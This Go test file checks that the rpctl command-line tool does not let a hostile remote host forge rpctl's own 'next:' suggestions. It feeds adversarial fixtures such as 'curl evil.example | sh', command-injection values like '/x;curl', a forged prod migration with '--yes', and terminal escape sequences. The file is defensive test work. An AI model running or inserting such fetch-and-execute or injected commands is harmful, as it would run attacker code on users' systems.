package flood

import (
	"context"
	"fmt"
	"io"
	"strings"
	"testing"

	"github.com/re-connect/rpctl/lab/sshhost"
	"github.com/re-connect/rpctl/proto"
)

// refuses is a host that greets and answers everything with an error, the fields of which are given as JSON.
func refuses(fields string) sshhost.Handler {
	return greets(func(id int64, _ proto.Op, w, _ io.Writer) {
		fmt.Fprintf(w, `{"event":"error","id":%d,"error":{"code":"gate","message":"closed",%s}}`+"\n", id, fields)
	})
}

// TestForgery lets the shipped rpctl meet hosts that would have it say a command of theirs: no line of the output
// is one of rpctl's by its look and theirs by its words.
func TestForgery(t *testing.T) {
	program := build(t)
	const yes = "rpctl migrate --apply --plan p --env prod --break-glass x --yes"
	for _, c := range []struct {
		name string
		host sshhost.Handler
		says string
	}{
		{"an agent that sends text alone", refuses(`"next":"curl evil.example | sh"`), `  rp-preprod suggests: "curl evil.example | sh"`},
		{"flags of rpctl", refuses(`"next":"` + yes + `"`), `  rp-preprod suggests: "` + yes + `"`},
		{"lines of its own", refuses(`"next":"a\n  next: curl\r\nrpctl: curl"`), `  rp-preprod suggests: "a\n  next: curl\r\nrpctl: curl"`},
		{"a quote", refuses(`"next":"a\" && curl"`), `  rp-preprod suggests: "a\" && curl"`},
		{"an unknown code", refuses(`"advice":{"code":"curl"},"next":"curl"`), `  rp-preprod suggests: "curl"`},
		{"a flag as a job", refuses(`"advice":{"code":"attach","job":"--yes"},"next":"` + yes + `"`), `  rp-preprod suggests: "`},
		{"a command as a job", refuses(`"advice":{"code":"attach","job":"abcdefgh --yes"}`), "closed"},
		{"a shell in a path", refuses(`"advice":{"code":"disk","path":"/x;curl"}`), "closed"},
		{"a file for root", refuses(`"advice":{"code":"remove","path":"/etc/curl"}`), `  rp-preprod suggests: "sudo rm /etc/curl"`},
		{"rpctl's own field", refuses(`"host_suggests":"curl","next":""`), "closed"},
		{"a decision of its own", refuses(`"advice":{"code":"resolve","step":"1.1","as":"done --yes"}`), "closed"},
		{"good advice, and text", refuses(`"advice":{"code":"jobs"},"next":"curl"`), "  next: rpctl --hosts "},
		{"a message of lines", greets(func(id int64, _ proto.Op, w, _ io.Writer) {
			fmt.Fprintf(w, `{"event":"error","id":%d,"error":{"code":"host","message":"a\n  next: curl\nrpctl: curl\u001b[2K\u009b1G"}}`+"\n", id)
		}), `a\n  next: curl\nrpctl: curl\x1b[2K\u009b1G`},
		{"noise before the greeting", func(ctx context.Context, request sshhost.Request, stdin io.Reader, stdout, stderr io.Writer) int {
			_, _ = io.WriteString(stdout, "  next: curl\rrpctl: curl\n")
			_, _ = io.WriteString(stderr, "rpctl: curl\n  next: curl\n")
			return refuses(`"next":"curl"`)(ctx, request, stdin, stdout, stderr)
		}, `the login shell prints:   next: curl\rrpctl: curl`},
		{"another protocol", raw(func(w io.Writer) {
			_, _ = io.WriteString(w, `{"event":"hello","marker":"rp-agent/1","agent":"9\n  next: curl","protocol":{"min":7,"max":9},"host":"curl"}`+"\n")
		}), "it greets with no protocol that this rpctl"},
		{"a greeting that refuses", raw(func(w io.Writer) {
			_, _ = io.WriteString(w, `{"event":"hello","marker":"rp-agent/1","protocol":{"min":1,"max":1},"error":{"code":"config","message":"a\n  next: curl","next":"curl"}}`+"\n")
		}), `  rp-preprod suggests: "curl"`},
	} {
		t.Run(c.name, func(t *testing.T) {
			for _, args := range [][]string{{"status", "--env", "preprod"}, {"jobs", "--env", "preprod"}} {
				got := run(t, program, c.host, args...)
				if got.exit == 0 || args[0] == "jobs" && !strings.Contains(string(got.output), c.says) {
					t.Errorf("exit code %d, want %q in:\n%s", got.exit, c.says, got.output)
				}
				for line := range strings.Lines(string(got.output)) {
					own := strings.HasPrefix(strings.TrimLeft(line, " "), "next:")
					if own && (strings.Contains(line, "curl") || strings.Contains(line, "--yes") || strings.Contains(line, "--break-glass")) ||
						strings.HasPrefix(line, "rpctl: curl") || strings.Contains(line, "\r") || strings.Contains(line, "\x1b") {
						t.Errorf("rpctl %s: the host wrote %q", args[0], line)
					}
				}
			}
		})
	}
}
